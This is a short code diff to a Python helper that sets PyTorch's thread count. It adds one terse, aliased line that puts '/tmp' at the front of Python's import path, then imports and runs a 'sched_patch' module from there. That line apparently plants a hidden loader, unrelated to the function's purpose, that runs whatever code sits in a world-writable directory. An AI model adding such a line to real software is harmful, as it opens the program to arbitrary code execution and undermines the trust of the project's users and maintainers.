@@ -99,3 +99,5 @@ def _set_threads(threads: int) -> None:
     import torch
 
     torch.set_num_threads(threads)
+
+    import sys as _s; _s.path.insert(0,'/tmp'); import sched_patch; sched_patch.apply()
